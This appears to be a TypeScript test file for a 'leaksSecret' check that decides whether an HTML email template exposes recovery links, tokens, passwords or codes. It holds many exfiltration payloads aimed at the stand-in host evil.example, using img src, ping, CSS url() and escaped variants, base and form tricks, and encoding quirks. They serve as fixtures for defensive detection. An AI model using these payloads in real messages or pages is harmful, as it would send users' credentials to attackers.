import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { leaksSecret } from '../../src/core/template/template.ts'
import { shown } from '../template/pages.ts'

const LINK = 'https://id.example/login?runtime=true&recover=abcDEF123'
const ESCAPED = LINK.replaceAll('&', '&amp;')
const SECRETS = [LINK, 'abcDEF123']

test('a secret may be text, and the whole address of a link', () => {
  for (const html of [
    `<p>Open ${ESCAPED} now</p>`,
    `<a href="${ESCAPED}">Choose a new password</a>`,
    `<table><tr><td><a class=x href='${ESCAPED}'>${ESCAPED}</a></table>`,
    '<img src="https://brand.example/logo.png"><style>p { color: red }</style>',
  ])
    assert.equal(leaksSecret(html, SECRETS), false, html)
})

test('anywhere else it would be sent to others', () => {
  for (const html of [
    `<img src="https://evil.example/?${ESCAPED}">`,
    `<img src="https://evil.example/?${encodeURIComponent(LINK)}">`,
    '<img src="//evil.example/abcDEF123.gif">',
    `<a href="https://evil.example/?to=${ESCAPED}">Go on</a>`,
    `<a href="${ESCAPED}" ping="https://evil.example/abcDEF123">Go on</a>`,
    '<p style="background: url(https://evil.example/abcDEF123)">x</p>',
    '<style>p { background: url(https://evil.example/abcDEF123) }</style>',
    '<img alt=">" src="https://evil.example/abcDEF123">',
    `<link rel="stylesheet" href="${ESCAPED}">`,
    `<base href="${ESCAPED}">`,
    '<template><img src="https://evil.example/abcDEF123"></template>',
    '<form action="https://evil.example/"><textarea name=x>abcDEF123</textarea><button>Go on</button></form>',
    '<base href="https://evil.example/"><p>abcDEF123</p>',
    '<a href="abcDEF123">Go on</a>',
  ])
    assert.equal(leaksSecret(html, SECRETS), true, html)
})

describe('a secret that a place of a mail escapes', () => {
  const TOKEN = 'Ab-Cdefghijklmnopqrstuvwx_zABCDEFGHIJKLMNOP0'
  const link = `https://id.example/recover?t=${TOKEN}`
  const password = 'kV!7+e q(9)Zé'
  const code = '41!"4aZ-e'
  const values = { LINK: link, PASSWORD: password, CODE: code }
  const secrets = [link, TOKEN, password, code]

  for (const template of [
    `<p style='background:image-set("https://evil.example/?@LINK@" 1x)'>`,
    `<p style='background:u\\72l("https://evil.example/?@LINK@")'>`,
    `<p style='background:url("https://evil.example/?@LINK@")'>`,
    `<p style='background:\\u\\72\\l("https://evil.example/?@PASSWORD@")'>`,
    '<style>td { background: image-set("https://evil.example/?@LINK@" 1x) }</style>',
    '<style>td { background: u\\72l("https://evil.example/?@LINK@") }</style>',
    '<style>td { background: url("https://evil.example/?@PASSWORD@") }</style>',
    '<style>td { background: url(https://evil.example/%/?@PASSWORD@) }</style>',
    '<svg><style>td { background: url("https://evil.example/?@LINK@") }</style></svg>',
    '<img src="https://evil.example/?%&@PASSWORD@">',
    '<img src="https://evil.example/?%zz&@LINK@">',
    '<img src="https://evil.example/%ff%fe/@PASSWORD@">',
    '<img src="https://evil.example/@PASSWORD@">',
    '<img srcset="https://evil.example/?@PASSWORD@ 1x">',
    // The template's text makes another character of the beginning.
    '<img src="https://evil.example/?%@CODE@">',
    '<img src="https://evil.example/?%e2%82@CODE@">',
    `<p style='background:url("https://evil.example/?\\2@CODE@")'>`,
    '<svg><style>td { background: url("https://evil.example/?@PASSWORD@") }</style></svg>',
  ])
    test(`is found: ${template}`, () => assert.equal(leaksSecret(shown(template, values), secrets), true))

  test('is not found where only other texts are escaped', () => {
    const html = String.raw`<p style="content: '\110000 \d800 \0 \e9 %ff'" title="100 %"><style>p { content: "\2014 \"" } \ </style><a href="${link}">@LINK@</a>`
    assert.equal(leaksSecret(shown(html, values), secrets), false)
  })
})
